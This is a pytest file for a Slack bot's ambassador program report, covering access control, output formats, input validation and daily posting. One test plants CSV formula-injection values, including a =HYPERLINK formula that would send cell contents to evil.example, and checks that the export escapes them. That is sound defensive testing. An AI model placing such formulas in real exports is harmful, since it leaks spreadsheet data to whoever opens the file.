"""The program report as people get it: `/ambassador report` over signed requests (the TSC gets the
figures and the chart in their DM; anyone else a kind no), and `ambassador-bot report` in each format
and posted, on both databases."""

from __future__ import annotations

import csv
import io
import json
import struct
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select

from bot.cli.main import main
from bot.report.drawing import PNG_SIGNATURE
from bot.store.db import Database
from bot.store.models import AuditEvent
from tests.conftest import MEMBER, OTHER, REVIEW_CHANNEL, TSC, Bot
from tests.e2e.test_jobs_cli import environment  # noqa: F401 (fixture)
from tests.fakes.slack import FakeSlack
from tests.helpers.factories import add_contribution, enrol
from tests.integration.test_report import small_program

FILE_CALLS = ["files.getUploadURLExternal", "upload", "files.completeUploadExternal"]


def test_the_tsc_gets_the_report_and_its_chart(bot: Bot) -> None:
    small_program(bot.db)
    bot.clock.set("2026-03-15T12:00:00")

    response = bot.slack.command("report 2026-Q1", TSC)

    assert response.status == 200
    assert "Putting the program report together" in response.json["text"]
    bot.fake.wait_for_call("files.completeUploadExternal")
    report = bot.fake.wait_for(lambda: [r for r in bot.fake.responses if "Program report" in r["text"]])[0]
    assert report["response_type"] == "ephemeral"
    assert report["text"].startswith("Program report: 2026-Q1: 4 contributions by 2 ambassadors")
    blocks = json.dumps(report["blocks"])
    assert "Behind pace today: 1 of 4" in blocks and "<@U0MEMBER>" in blocks
    assert [m for m in bot.fake.methods() if m in FILE_CALLS] == FILE_CALLS
    (asked,) = bot.fake.calls_to("files.getUploadURLExternal")
    assert asked["filename"] == "ambassador-program-2026-Q1.png" and int(asked["length"]) > 5_000
    (shared,) = bot.fake.calls_to("files.completeUploadExternal")
    assert shared["channel_id"] == "D0TSC"
    (dm,) = bot.fake.messages_in("D0TSC")
    assert dm.files and dm.text.startswith("*Contributions, 2026-Q1*")
    assert "Feb 2026: 2 contributions, audience 1,300" in dm.text


def test_anyone_else_is_refused_kindly_and_audited(bot: Bot) -> None:
    for user in (MEMBER, OTHER):
        text = bot.slack.command("report", user).json["text"]
        assert text.startswith("The program report is for the TSC.")
    assert not [m for m in bot.fake.methods() if m in FILE_CALLS]
    with bot.db.transaction() as session:
        actions = session.scalars(select(AuditEvent.action)).all()
    assert actions == ["report.refused", "report.refused"]


def test_a_period_that_does_not_read_says_what_to_type(bot: Bot) -> None:
    text = bot.slack.command("report 2026-Q7", TSC).json["text"]
    assert "`2026-Q7` is not a quarter" in text and "/ambassador report 2026-Q3" in text


@pytest.mark.usefixtures("environment")
def test_the_command_line_in_each_format(
    db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    small_program(db)
    period = ["--period", "2026-Q1", "--as-of", "2026-03-15"]

    assert main(["report", *period]) == 0
    markdown = capsys.readouterr().out
    assert markdown.startswith("# Program report: 2026-Q1\n") and "| Renewals | 1 |" in markdown

    assert main(["report", *period, "--format", "json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["contributions"], data["audience"], data["by_country"]["Online"]) == (4, 1420, 1)

    assert main(["report", *period, "--format", "csv", "-o", "q1.csv"]) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "q1.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 5 and rows[0]["city"] == "Paris" and rows[0]["audience"] == "120"
    assert rows[-1]["counted"] == "upcoming" and rows[2]["online"] == "yes"

    assert main(["report", *period, "--format", "png", "-o", "q1.png"]) == 0
    picture = (tmp_path / "q1.png").read_bytes()
    assert picture[:8] == PNG_SIGNATURE and struct.unpack(">II", picture[16:24]) == (800, 640)


@pytest.mark.usefixtures("environment")
def test_the_csv_runs_no_formula_a_member_typed(db: Database, tmp_path: Path) -> None:
    small_program(db)
    member = enrol(db, "U0FORMULA", date(2026, 1, 1), "@SUM(1+1)")
    add_contribution(db, member, date(2026, 2, 2), title='=HYPERLINK("http://evil.example/?x="&A1,"x")')
    add_contribution(db, member, date(2026, 2, 3), title="-2+3 reasons to use AsyncAPI")

    assert (
        main(["report", "--period", "2026-Q1", "--as-of", "2026-03-15", "--format", "csv", "-o", "q.csv"])
        == 0
    )

    rows = list(csv.DictReader(io.StringIO((tmp_path / "q.csv").read_text(encoding="utf-8"))))
    theirs = [row for row in rows if row["member"].endswith("(1+1)")]
    assert {row["member"] for row in theirs} == {"'@SUM(1+1)"}
    assert sorted(row["title"] for row in theirs) == [
        "'-2+3 reasons to use AsyncAPI",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
    ]
    assert {row["title"] for row in rows} >= {"KubeCon talk", "Events post"}  # the rest as typed


@pytest.mark.usefixtures("environment")
def test_the_command_line_refuses_what_it_cannot_do(db: Database, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "--format", "png"]) == 2
    assert "name the file with -o FILE" in capsys.readouterr().err
    assert main(["report", "--period", "2026", "--from", "2026-01-01"]) == 2
    assert "either --period or --from/--to" in capsys.readouterr().err
    assert main(["report", "--from", "2026-05-01", "--to", "2026-04-01"]) == 2
    assert "--from 2026-05-01 comes after --to 2026-04-01" in capsys.readouterr().err


@pytest.mark.usefixtures("environment")
def test_posted_in_the_review_channel_once_a_day(
    db: Database, fake_slack: FakeSlack, capsys: pytest.CaptureFixture[str]
) -> None:
    small_program(db)
    post = ["report", "--period", "2026-Q1", "--as-of", "2026-03-15", "--post"]

    assert main(post) == 0
    assert main(post) == 0

    message, chart = fake_slack.messages_in(REVIEW_CHANNEL)
    assert message.text.startswith("Program report: 2026-Q1") and chart.files
    assert "already posted today" in capsys.readouterr().out
    assert date(2026, 3, 15).isoformat() in json.dumps(message.blocks)
